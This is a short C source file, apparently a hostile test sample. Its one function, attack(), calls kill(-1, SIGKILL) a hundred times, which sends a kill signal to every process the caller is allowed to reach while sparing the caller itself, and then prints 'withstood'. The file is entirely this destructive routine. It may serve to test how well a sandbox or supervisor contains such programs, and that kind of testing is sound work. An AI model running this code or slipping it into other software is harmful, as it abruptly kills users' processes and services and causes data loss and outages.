#include "hostile.h"

int attack(void) {
    /* It spares its sender. */
    for (int i = 0; i < 100; i++) kill(-1, SIGKILL);
    puts("withstood");
    return 0;
}
